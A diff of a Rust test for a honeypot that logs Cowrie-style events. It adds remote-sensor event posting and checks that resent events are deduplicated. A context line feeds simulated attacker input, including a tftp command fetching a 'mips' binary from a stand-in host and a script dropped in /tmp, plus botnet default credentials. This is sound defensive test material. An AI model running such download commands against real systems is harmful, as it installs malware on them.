@@ -143,6 +143,8 @@ fn cowrie_log_of_brute_force_and_shells_has_cowrie_ids_and_fields() {
     let data = dir.path().join("data");
     let config = dir.path().join("nectar.toml");
     std::fs::write(&config, "[honeypot.cowrie]\nenabled = true\n").unwrap();
+    std::fs::create_dir_all(&data).unwrap();
+    let token = token(&data, "remote-1", "analyst");
     let mut server = Server::start(&data, Some(&config));
     let ssh = server.ssh_addr.clone().expect("SSH address");
     let telnet_addr = server.telnet.expect("Telnet address");
@@ -186,6 +188,53 @@ fn cowrie_log_of_brute_force_and_shells_has_cowrie_ids_and_fields() {
         b"root\r\n123456\r\n/bin/busybox ECCHI\r\nnosuchcmd\r\ntftp -g -r mips 198.51.100.9\r\necho -e '#!/bin/sh\\necho pwned' > /tmp/p.sh\r\nexit\r\n",
     );
     assert!(text.contains("ECCHI: applet not found"), "{text}");
+    // A remote sensor posts a Telnet session (and an HTTP one, which has no Cowrie
+    // form); it resends the batch, then sends it again with one more event.
+    let remote = |id: &str, kind: &str, protocol: &str, data: Value| {
+        let mut data = data;
+        data["session"] = "0a0b0c0d0e0f".into();
+        data["protocol"] = protocol.into();
+        serde_json::json!({"id": id, "kind": kind, "sensor": "remote-1", "src_ip": "198.51.100.77",
+            "src_port": 40001, "dst_ip": "192.0.2.1", "dst_port": 23, "summary": "remote", "data": data})
+    };
+    let first = vec![
+        remote(
+            "0193a0c4-0000-7000-8000-000000000001",
+            "session.connect",
+            "telnet",
+            serde_json::json!({}),
+        ),
+        remote(
+            "0193a0c4-0000-7000-8000-000000000002",
+            "telnet.login.failed",
+            "telnet",
+            serde_json::json!({"username": "admin", "password": "remote-pw"}),
+        ),
+        remote(
+            "0193a0c4-0000-7000-8000-000000000003",
+            "session.connect",
+            "http",
+            serde_json::json!({}),
+        ),
+    ];
+    let mut second = first.clone();
+    second.push(remote(
+        "0193a0c4-0000-7000-8000-000000000004",
+        "session.close",
+        "telnet",
+        serde_json::json!({"duration": 2.0}),
+    ));
+    for (batch, stored) in [(&first, 3), (&first, 0), (&second, 1)] {
+        let answer: Value = client()
+            .post(format!("{}/api/v1/events", server.url))
+            .bearer_auth(&token)
+            .json(batch)
+            .send()
+            .unwrap()
+            .json()
+            .unwrap();
+        assert_eq!(answer["stored"], stored, "{answer}");
+    }
     assert!(server.sigterm().success());
 
     let log = std::fs::read_to_string(data.join("cowrie.json")).unwrap();
@@ -219,7 +268,11 @@ fn cowrie_log_of_brute_force_and_shells_has_cowrie_ids_and_fields() {
             "{ts}"
         );
         assert!(is_hex12(l["session"].as_str().unwrap()), "{l}");
-        assert_eq!(l["src_ip"], "127.0.0.1");
+        if l["sensor"] == "remote-1" {
+            assert_eq!(l["src_ip"], "198.51.100.77");
+        } else {
+            assert_eq!(l["src_ip"], "127.0.0.1");
+        }
         for key in cowrie_fields(id) {
             assert!(!l[*key].is_null(), "{id} without {key}: {l}");
         }
@@ -263,7 +316,14 @@ fn cowrie_log_of_brute_force_and_shells_has_cowrie_ids_and_fields() {
         .iter()
         .filter(|l| l["eventid"] == "cowrie.login.failed")
         .collect();
-    assert_eq!(failed.len(), 5, "{failed:?}");
+    // Three SSH, two Telnet, one from the remote sensor (written once, though
+    // posted three times).
+    assert_eq!(failed.len(), 6, "{failed:?}");
+    assert!(
+        failed.iter().any(|l| l["sensor"] == "remote-1"
+            && l["password"] == "remote-pw"
+            && l["dst_port"] == 23)
+    );
     assert!(failed.iter().any(|l| l["protocol"] == "telnet"
         && l["username"] == "root"
         && l["password"] == "xc3511"
@@ -276,7 +336,16 @@ fn cowrie_log_of_brute_force_and_shells_has_cowrie_ids_and_fields() {
             .or_default()
             .push(l["eventid"].as_str().unwrap());
     }
-    assert_eq!(sessions.len(), 7, "{sessions:?}");
+    assert_eq!(sessions.len(), 8, "{sessions:?}");
+    assert_eq!(
+        sessions["0a0b0c0d0e0f"],
+        [
+            "cowrie.session.connect",
+            "cowrie.login.failed",
+            "cowrie.session.closed"
+        ],
+        "the remote session, each event once, the HTTP one left out"
+    );
     for ids in sessions.values() {
         assert_eq!(ids.first(), Some(&"cowrie.session.connect"), "{ids:?}");
         assert_eq!(ids.last(), Some(&"cowrie.session.closed"), "{ids:?}");
